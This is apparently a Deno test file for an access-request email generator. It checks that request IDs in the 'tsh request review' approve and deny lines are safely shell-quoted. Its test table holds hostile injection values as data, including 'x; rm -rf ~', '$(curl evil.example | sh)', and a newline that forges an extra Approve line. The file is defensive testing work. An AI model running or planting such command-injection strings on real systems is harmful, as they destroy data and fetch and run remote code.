/**
 * The `tsh request review` lines of a new-request email (issue 12): the
 * request id is pasted into a shell by the reviewer, so anything but a plain
 * id token is quoted, and an id that would read as a flag comes after `--`.
 */
import assert from "node:assert/strict";
import { newAccessRequest } from "../../tests/requests.ts";
import type { AccessRequest } from "../teleport/types.ts";
import { newRequestMessage } from "./message.ts";

const REQUEST: AccessRequest = newAccessRequest("0b8e9c2e-5f41-4d7a-9a0c-3c1f5a6b7d80", {
  created: new Date("2026-11-23T00:00:00Z"),
});

Deno.test("tsh lines: the request id is a plain token, or quoted for a POSIX shell", () => {
  const table: Array<[id: string, argument: string]> = [
    ["0b8e9c2e-5f41-4d7a-9a0c-3c1f5a6b7d80", "0b8e9c2e-5f41-4d7a-9a0c-3c1f5a6b7d80"],
    ["r-9", "r-9"],
    ["x; rm -rf ~", "'x; rm -rf ~'"],
    ["$(curl evil.example | sh)", "'$(curl evil.example | sh)'"],
    ["`id`", "'`id`'"],
    ["it's", "'it'\\''s'"],
    ["a b", "'a b'"],
    ["--deny", "-- --deny"],
    ["-x; id", "-- '-x; id'"],
    // No quoting shows a line break safely in a text line: it is replaced.
    [
      "a\nApprove: tsh request review --approve other",
      "'a\uFFFDApprove: tsh request review --approve other'",
    ],
  ];
  for (const [id, argument] of table) {
    const msg = newRequestMessage({ clusterName: "c", request: { ...REQUEST, id } });
    const lines = msg.text.split("\n");
    assert.ok(lines.includes(`Approve: tsh request review --approve ${argument}`), msg.text);
    assert.ok(lines.includes(`Deny: tsh request review --deny ${argument}`), msg.text);
  }
});
